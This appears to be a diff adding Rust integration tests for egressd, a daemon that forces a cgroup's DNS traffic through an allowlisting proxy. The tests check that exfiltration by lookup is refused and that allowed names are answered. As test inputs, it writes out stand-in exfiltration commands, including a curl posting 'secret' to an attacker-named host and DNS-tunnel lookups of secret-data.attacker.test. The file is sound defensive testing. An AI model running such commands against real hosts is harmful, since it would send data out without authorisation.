@@ -1,0 +1,278 @@
+//! DNS through egressd: every query from a governed cgroup, to any address,
+//! over UDP or TCP, IPv4 or IPv6, reaches egressd's proxy. Names no rule
+//! allows are refused and never reach the upstream resolver (the DNS
+//! tunnel); allowed names are answered, and only then are their addresses
+//! allowed. Real clients: dig, glibc (Python's getaddrinfo), curl.
+
+use egress_tests::{
+    dns::DnsServer,
+    egressd::{exec, Daemon, TempDir, TestCgroup},
+    listen::Listener,
+    netns::Netns,
+    require_root,
+};
+
+const PROBE: &str = env!("CARGO_BIN_EXE_probe");
+const UPSTREAM: &str = "198.51.100.53:53";
+
+fn zone(ns: &Netns) -> DnsServer {
+    DnsServer::start(
+        ns,
+        UPSTREAM,
+        &[
+            ("api.model.test", &["198.51.100.1", "2001:db8::1"], 300),
+            ("img.cdn.test", &["198.51.100.2"], 300),
+            ("secret-data.attacker.test", &["203.0.113.9"], 300),
+        ],
+    )
+    .unwrap()
+}
+
+const ALLOW: &[&str] = &[
+    "--resolver",
+    UPSTREAM,
+    "--allow",
+    "api.model.test:443",
+    "--allow",
+    "*.cdn.test:443",
+];
+
+/// Runs `script` with /etc/resolv.conf naming `nameserver` (a documentation
+/// address where no DNS server runs: only the redirect can answer).
+fn with_resolv_conf(tmp: &TempDir, nameserver: &str, script: &str) -> Vec<String> {
+    let conf = tmp
+        .write(
+            "resolv.conf",
+            &format!("nameserver {nameserver}\noptions attempts:1 timeout:2\n"),
+        )
+        .unwrap();
+    vec![
+        "unshare".into(),
+        "--mount".into(),
+        "sh".into(),
+        "-c".into(),
+        format!(
+            "mount --bind {} /etc/resolv.conf && {script}",
+            conf.display()
+        ),
+    ]
+}
+
+fn run(ns: &Netns, argv: &[String]) -> egress_tests::egressd::ExecResult {
+    let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
+    exec(ns, ALLOW, &argv).unwrap()
+}
+
+fn dig(ns: &Netns, args: &str) -> egress_tests::egressd::ExecResult {
+    let mut argv = vec!["dig", "+time=2", "+tries=1"];
+    argv.extend(args.split_whitespace());
+    exec(ns, ALLOW, &argv).unwrap()
+}
+
+fn status(dig_output: &str) -> &str {
+    dig_output
+        .split("status: ")
+        .nth(1)
+        .and_then(|s| s.split(',').next())
+        .unwrap_or("(no reply)")
+}
+
+#[test]
+fn exfiltration_by_lookup_is_refused_and_never_forwarded() {
+    require_root();
+    let ns = Netns::new("tunnel").unwrap();
+    let upstream = zone(&ns);
+    // To the configured resolver, and to resolvers the agent picks itself,
+    // over UDP and TCP, IPv4 and IPv6.
+    for server in [
+        "@198.51.100.53",
+        "@203.0.113.1",
+        "@2001:db8::53",
+        "@2001:db8::2",
+    ] {
+        for transport in ["+notcp", "+tcp"] {
+            let r = dig(
+                &ns,
+                &format!("{server} {transport} secret-data.attacker.test A"),
+            );
+            assert_eq!(
+                status(&r.stdout),
+                "REFUSED",
+                "{server} {transport}: {}{}",
+                r.stdout,
+                r.stderr
+            );
+            let e = r
+                .events
+                .iter()
+                .find(|e| e["hook"] == "dns")
+                .expect("a DNS deny event");
+            assert_eq!(e["qname"], "secret-data.attacker.test");
+            assert_eq!(e["reason"], "dns_name_not_allowed");
+            assert_eq!(
+                e["protocol"],
+                if transport == "+tcp" { "tcp" } else { "udp" }
+            );
+        }
+    }
+    assert!(
+        !upstream.asked().iter().any(|n| n.contains("attacker")),
+        "a refused name reached the upstream resolver: {:?}",
+        upstream.asked()
+    );
+    let r = dig(&ns, "@198.51.100.53 secret-data.attacker.test TXT");
+    assert_eq!(status(&r.stdout), "REFUSED");
+}
+
+#[test]
+fn allowed_names_are_answered_as_if_by_the_server_asked() {
+    require_root();
+    let ns = Netns::new("answer").unwrap();
+    let _upstream = zone(&ns);
+    for (server, transport) in [
+        ("@203.0.113.1", "+notcp"),
+        ("@203.0.113.1", "+tcp"),
+        ("@2001:db8::53", "+notcp"),
+    ] {
+        let r = dig(&ns, &format!("{server} {transport} img.cdn.test A"));
+        assert_eq!(status(&r.stdout), "NOERROR", "{}{}", r.stdout, r.stderr);
+        assert!(r.stdout.contains("198.51.100.2"), "{}", r.stdout);
+        // dig checks the reply's source; it names the server it asked.
+        let server_ip = server.trim_start_matches('@');
+        assert!(
+            r.stdout.contains(&format!("SERVER: {server_ip}#53")),
+            "{}",
+            r.stdout
+        );
+    }
+}
+
+#[test]
+fn glibc_resolves_through_the_proxy_and_the_answer_opens_the_address() {
+    require_root();
+    let ns = Netns::new("glibc").unwrap();
+    let upstream = zone(&ns);
+    let cdn = Listener::tcp(&ns, "198.51.100.2:443").unwrap();
+    let exfil = Listener::tcp(&ns, "203.0.113.9:443").unwrap();
+    let tmp = TempDir::new("glibc").unwrap();
+    let script = r#"python3 -c "
+import socket
+ip = socket.getaddrinfo('img.cdn.test', 443, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
+print(ip)
+socket.create_connection((ip, 443), timeout=2).close(); print('connected')
+try:
+    socket.getaddrinfo('secret-data.attacker.test', 443)
+    print('resolved')
+except socket.gaierror as e:
+    print('not resolved')
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.connect(('203.0.113.1', 53)); print(u.getpeername()[0], u.getpeername()[1])
+""#;
+    let r = run(&ns, &with_resolv_conf(&tmp, "203.0.113.1", script));
+    let lines: Vec<&str> = r.stdout.lines().collect();
+    assert_eq!(
+        lines,
+        [
+            "198.51.100.2",
+            "connected",
+            "not resolved",
+            "203.0.113.1 53"
+        ],
+        "{}",
+        r.stderr
+    );
+    assert_eq!(cdn.count(), 1);
+    assert_eq!(exfil.count(), 0);
+    assert!(!upstream.asked().iter().any(|n| n.contains("attacker")));
+}
+
+#[test]
+fn an_address_is_allowed_only_once_answered() {
+    require_root();
+    let ns = Netns::new("order").unwrap();
+    let _upstream = zone(&ns);
+    let cdn = Listener::tcp(&ns, "198.51.100.2:443").unwrap();
+    let tmp = TempDir::new("order").unwrap();
+    // Connect before resolving: refused; resolve, then connect: allowed.
+    let script = format!(
+        "{PROBE} tcp 198.51.100.2:443; getent ahostsv4 img.cdn.test | head -n 1 | cut -d' ' -f1; {PROBE} tcp 198.51.100.2:443"
+    );
+    let r = run(&ns, &with_resolv_conf(&tmp, "203.0.113.1", &script));
+    let lines: Vec<&str> = r.stdout.lines().collect();
+    assert_eq!(lines, ["error: 1", "198.51.100.2", "ok"], "{}", r.stderr);
+    assert_eq!(cdn.count(), 1);
+}
+
+#[test]
+fn curl_resolves_and_connects() {
+    require_root();
+    let ns = Netns::new("curl").unwrap();
+    let _upstream = zone(&ns);
+    let api = Listener::tcp(&ns, "198.51.100.1:443").unwrap();
+    let exfil = Listener::tcp(&ns, "203.0.113.9:443").unwrap();
+    let tmp = TempDir::new("curl").unwrap();
+    let script = "curl -4 -s -o /dev/null --max-time 1 http://api.model.test:443/ ; echo $?; curl -s --max-time 1 -d secret http://secret-data.attacker.test:443/ ; echo $?";
+    let r = run(&ns, &with_resolv_conf(&tmp, "203.0.113.1", script));
+    let lines: Vec<&str> = r.stdout.lines().collect();
+    // 28: connected, then timed out waiting (the listener never answers);
+    // 6: could not resolve.
+    assert_eq!(lines, ["28", "6"], "{}", r.stderr);
+    assert_eq!(api.count(), 1);
+    assert_eq!(exfil.count(), 0);
+}
+
+#[test]
+fn upstream_down_fails_closed_and_is_counted() {
+    require_root();
+    let ns = Netns::new("down").unwrap();
+    let cg = TestCgroup::new("down").unwrap();
+    let dir = TempDir::new("down").unwrap();
+    let policy = dir
+        .write(
+            "p.yaml",
+            &format!("name: p\ncgroups: [{}]\nallow:\n  - host: \"*.cdn.test\"\n    ports: [443]\ndns:\n  upstream: [{UPSTREAM}]\n", cg.rel_str()),
+        )
+        .unwrap();
+    let daemon = Daemon::start(&ns, &policy).unwrap();
+    let out = cg
+        .run(
+            &ns,
+            "dig",
+            &["+time=3", "+tries=1", "@203.0.113.1", "img.cdn.test"],
+        )
+        .unwrap();
+    assert_eq!(status(&String::from_utf8_lossy(&out.stdout)), "SERVFAIL");
+    assert_eq!(
+        daemon
+            .metric(
+                "egressd_dns_queries_total",
+                &[("policy", "p"), ("verdict", "error")]
+            )
+            .unwrap(),
+        1.0
+    );
+    assert_eq!(
+        daemon
+            .metric("egressd_allowlist_entries", &[("policy", "p")])
+            .unwrap(),
+        0.0
+    );
+    let out = cg
+        .run(
+            &ns,
+            "dig",
+            &["+time=3", "+tries=1", "@203.0.113.1", "exfil.attacker.test"],
+        )
+        .unwrap();
+    assert_eq!(status(&String::from_utf8_lossy(&out.stdout)), "REFUSED");
+    assert_eq!(
+        daemon
+            .metric(
+                "egressd_dns_queries_total",
+                &[("policy", "p"), ("verdict", "denied")]
+            )
+            .unwrap(),
+        1.0
+    );
+    let events = daemon.wait_events(1);
+    assert_eq!(events[0]["qname"], "exfil.attacker.test");
+}
